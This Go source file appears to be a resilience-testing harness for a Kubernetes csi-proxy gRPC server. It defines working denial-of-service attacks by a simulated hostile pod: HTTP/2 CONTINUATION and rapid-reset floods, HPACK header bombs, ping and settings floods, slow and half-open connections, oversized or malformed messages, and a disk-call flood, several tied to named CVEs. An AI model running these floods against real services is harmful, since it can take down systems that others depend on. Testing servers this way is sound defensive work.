package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"io"
	mathrand "math/rand/v2"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	disk "github.com/kubernetes-csi/csi-proxy/client/api/disk/v1"
	"golang.org/x/net/http2"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
)

// counters sums up what an attacker did.
type counters struct {
	connections, refused, ended, bytes atomic.Int64
	mutex                              sync.Mutex
	// The number of answers by code; only some attacks count answers.
	answers map[string]int64
}

func (c *counters) answered(err error) {
	c.mutex.Lock()
	defer c.mutex.Unlock()
	if c.answers == nil {
		c.answers = map[string]int64{}
	}
	c.answers[status.Code(err).String()]++
}

// attack is one thing that a hostile pod can do.
type attack struct {
	name string
	// What the attacker sends, and the CVE of the attack if there is one.
	about string
	// The number of attacking processes; 0 means 1.
	processes int
	// A fault of the simulated node during the attack, in the form of the admin service.
	fault map[string]any
	// The duration, unless the run is short; 0 means the default.
	seconds int
	// True if honest clients dial for each call, so that their times include the connection.
	redials bool
	// If set, at least one call gets this code and no call succeeds.
	answer codes.Code
	// True if the attack is also part of a short run.
	short bool
	// Prepares the attack in the attacker's process, before the measurement.
	prepare func() error
	run     func(ctx context.Context, count *counters)
}

var attacks = slices.Concat(frameAttacks, costAttacks)

// frameAttacks abuse HTTP/2 frames and connections.
var frameAttacks = []attack{
	{name: "continuation", about: "HEADERS, then CONTINUATION without end (VU#421644)",
		run: again(openAnd(func(r *raw) error {
			if err := r.headers(r.fields(pathExists), false, false); err != nil {
				return err
			}
			// One literal field without indexing per frame.
			field := append([]byte{0x00, 1, 'x', 0x7f, 0x81, 0x7b}, bytes.Repeat([]byte{'a'}, 127+1+123*128)...)
			for {
				if err := r.WriteContinuation(r.stream, false, field); err != nil {
					return err
				}
			}
		}))},
	{name: "endless string", about: "a header of 4 GB, by its own account (CVE-2023-33953)",
		run: again(openAnd(func(r *raw) error {
			block := append([]byte{}, r.fields(pathExists)...)
			block = append(block, 0x00, 1, 'x', 0x7f, 0x81, 0xff, 0xff, 0xff, 0x0f)
			return endless(r, block, bytes.Repeat([]byte{'a'}, 16000))
		}))},
	{name: "endless number", about: "an integer of HPACK padded without end (CVE-2023-33953)",
		run: again(openAnd(func(r *raw) error {
			block := append([]byte{}, r.fields(pathExists)...)
			return endless(r, append(block, 0x00, 1, 'x', 0x7f), bytes.Repeat([]byte{0x80}, 16000))
		}))},
	{name: "header bomb", about: "one byte of HPACK for 4 KB of header, thousands of times",
		run: again(openAnd(func(r *raw) error {
			r.fields(pathExists, "x", strings.Repeat("a", 3900))
			for {
				// 62 refers to the newest entry of the dynamic table (RFC 7541, 2.3.3).
				block := append(append([]byte{}, r.block.Bytes()...), bytes.Repeat([]byte{0x80 | 62}, 11000)...)
				if err := r.headers(block, true, true); err != nil {
					return err
				}
				if err := r.out.Flush(); err != nil {
					return err
				}
				r.fields(pathExists)
			}
		}))},
	{name: "bad pseudo-headers", about: "te, :scheme, grpclb_client_stats that abort gRPC, and 9 to 24 KB more (CVE-2023-1428)",
		run: again(openAnd(func(r *raw) error {
			for size := 8 << 10; ; size = 8<<10 + (size+1000)%(16<<10) {
				for _, bad := range [][]string{{"te", "x"}, {":scheme", "x"}, {"grpclb_client_stats", "x"}, {":method", "x"}} {
					large := []string{"a", strings.Repeat("b", size/2), "c", strings.Repeat("d", size/2)}
					for _, more := range [][]string{append(append([]string{}, bad...), large...), append(large, bad...)} {
						block := r.fields(pathExists, more...)
						first := min(len(block), 16000)
						if err := r.headers(block[:first], first == len(block), true); err != nil {
							return err
						}
						if first < len(block) {
							r.WriteContinuation(r.stream, true, block[first:])
						}
						if err := r.out.Flush(); err != nil {
							return err
						}
					}
				}
			}
		}))},
	{name: "rapid reset", about: "HEADERS and RST_STREAM without end (CVE-2023-44487)",
		run: again(openAnd(func(r *raw) error {
			for {
				if err := r.headers(r.fields(pathExists), true, false); err != nil {
					return err
				}
				r.WriteRSTStream(r.stream, http2.ErrCodeCancel)
			}
		}))},
	{name: "ping", about: "PING without end (CVE-2019-9512)",
		run: again(flood(func(r *raw) error { return r.WritePing(false, [8]byte{}) }))},
	{name: "settings", about: "SETTINGS without end (CVE-2019-9515)",
		run: again(flood(func(r *raw) error { return r.WriteSettings() }))},
	{name: "priority", about: "PRIORITY without end (CVE-2019-9513)",
		run: again(flood(func(r *raw) error {
			return r.WritePriority(1, http2.PriorityParam{StreamDep: 3, Weight: 7})
		}))},
	{name: "window update", about: "WINDOW_UPDATE without end",
		run: again(flood(func(r *raw) error { return r.WriteWindowUpdate(0, 1) }))},
	{name: "empty frames", about: "empty DATA without end (CVE-2019-9518)",
		run: again(openAnd(func(r *raw) error {
			if err := r.headers(r.fields(pathExists), true, false); err != nil {
				return err
			}
			for {
				if err := r.WriteData(r.stream, false, nil); err != nil {
					return err
				}
			}
		}))},
	{name: "unknown frames", about: "frames of a type that does not exist",
		run: again(flood(func(r *raw) error { return r.WriteRawFrame(0x42, 0, 0, make([]byte, 1000)) }))},
	{name: "data on closed streams", about: "DATA for calls that have ended",
		run: again(openAnd(func(r *raw) error {
			if err := r.call(pathExists, `C:\var\lib\kubelet`); err != nil {
				return err
			}
			for {
				if err := r.WriteData(r.stream, false, make([]byte, 1000)); err != nil {
					return err
				}
			}
		}))},
	{name: "idle after the preface", about: "1,100 connections that begin HTTP/2 and rest",
		run: crowd(1100, func(ctx context.Context, r *raw) {
			if r.begin() == nil {
				io.Copy(io.Discard, r.Conn)
			}
		})},
	{name: "silent", about: "2,000 connections that send nothing",
		run: crowd(2000, func(ctx context.Context, r *raw) { io.Copy(io.Discard, r.Conn) })},
	{name: "garbage", about: "first bytes that are not HTTP/2",
		run: again(func(ctx context.Context, count *counters) {
			if r, err := dial(ctx, count); err == nil {
				junk := make([]byte, 4096)
				rand.Read(junk)
				for err == nil {
					_, err = r.Write(junk)
				}
				r.Close()
			}
		})},
	{name: "slow writers", about: "300 connections that send a call a byte at a time",
		run: crowd(300, func(ctx context.Context, r *raw) {
			if r.begin() != nil {
				return
			}
			go io.Copy(io.Discard, r.Conn)
			for ctx.Err() == nil {
				for _, one := range r.encoded(func() { r.call(pathExists, `C:\var\lib\kubelet`) }) {
					if _, err := r.Write([]byte{one}); err != nil {
						return
					}
					time.Sleep(100 * time.Millisecond)
				}
			}
		})},
	{name: "readers that do not read", about: "calls and PINGs whose answers stay in the pipe (CVE-2019-9517)",
		run: crowd(16, func(ctx context.Context, r *raw) {
			if r.begin() != nil {
				return
			}
			for r.call(pathExists, `C:\var\lib\kubelet`) == nil && r.WritePing(false, [8]byte{}) == nil {
			}
		})},
	{name: "settings not taken", about: "calls without end, by one that was not told how many it may make",
		run: crowd(16, func(ctx context.Context, r *raw) {
			r.out.WriteString(http2.ClientPreface)
			r.WriteSettings()
			for r.call(pathExists, `C:\var\lib\kubelet`) == nil {
			}
		})},
	{name: "half a request", about: "16 connections with 200 calls each that never end",
		run: crowd(16, func(ctx context.Context, r *raw) {
			if r.begin() != nil {
				return
			}
			go io.Copy(io.Discard, r.Conn)
			for i := 0; i < 200; i++ {
				r.headers(r.fields(pathExists), true, false)
				r.WriteData(r.stream, false, message(`C:\var\lib\kubelet`)[:9])
			}
			r.out.Flush()
			<-ctx.Done()
		})},
	{name: "half a large request", about: "200 calls with 900 KB each that never end",
		run: crowd(4, func(ctx context.Context, r *raw) {
			if r.begin() != nil {
				return
			}
			go io.Copy(io.Discard, r.Conn)
			for i := 0; i < 200; i++ {
				r.headers(r.fields(pathExists), true, false)
				r.WriteData(r.stream, false, []byte{0, 0, 15, 0, 0})
				for sent := 0; sent < 900<<10; sent += 16 << 10 {
					if r.WriteData(r.stream, false, make([]byte, 16<<10)) != nil {
						return
					}
				}
			}
			r.out.Flush()
			<-ctx.Done()
		})},
	{name: "giant messages", about: "requests of 4 GB, by their own account, and of 2 MB",
		run: again(openAnd(func(r *raw) error {
			for _, size := range []uint32{2 << 20, 1<<32 - 1} {
				if err := r.headers(r.fields(pathExists), true, false); err != nil {
					return err
				}
				prefix := binary.BigEndian.AppendUint32([]byte{0}, size)
				r.WriteData(r.stream, false, prefix)
				for sent := 0; sent < 2<<20; sent += 16 << 10 {
					if err := r.WriteData(r.stream, false, make([]byte, 16<<10)); err != nil {
						return err
					}
				}
			}
			return r.out.Flush()
		}))},
	{name: "broken messages", about: "requests cut short, and ones that are not protobuf",
		run: again(openAnd(func(r *raw) error {
			for {
				for _, body := range [][]byte{{0, 0, 0, 3, 232, 1, 2, 3}, {1, 0, 0, 0, 2, 1, 2}, {0, 0, 0, 0, 3, 255, 255, 255}, {7}, {}} {
					if err := r.headers(r.fields(pathExists), true, false); err != nil {
						return err
					}
					r.WriteData(r.stream, true, body)
				}
				if err := r.out.Flush(); err != nil {
					return err
				}
				time.Sleep(time.Millisecond)
			}
		}))},
	{name: "disk flood", about: "512 callers that list disks, rescan, bring a disk online and make calls that take 5 s",
		fault: map[string]any{"operation": "disk.GetDiskStats", "latency_ms": 5000},
		run: func(ctx context.Context, count *counters) {
			var turn atomic.Int64
			calls := []step{invokes(listDiskIDs, nothing), invokes(rescan, nothing),
				invokes("/v1.Disk/SetDiskState", &disk.SetDiskStateRequest{DiskNumber: 0, IsOnline: true}),
				invokes("/v1.Disk/GetDiskStats", &disk.GetDiskStatsRequest{DiskNumber: 0})}
			callers(ctx, count, "disk-v1", 16, 512, func(ctx context.Context, conn *grpc.ClientConn) error {
				return calls[int(turn.Add(1))%len(calls)].do(ctx, conn)
			})
		}},
	// Under Wine the machine makes 2,200 calls a second in all, of which the honest clients make 1,500.
	{name: "a hundred pods", about: "100 processes that make 5 calls a second each", processes: 100,
		run: func(ctx context.Context, count *counters) {
			// A random start: pods do not run in step.
			time.Sleep(mathrand.N(time.Second))
			r, err := open(ctx, count)
			for err == nil && ctx.Err() == nil {
				r.call(pathExists, `C:\var\lib\kubelet`)
				err = r.out.Flush()
				time.Sleep(200 * time.Millisecond)
			}
		}},
}
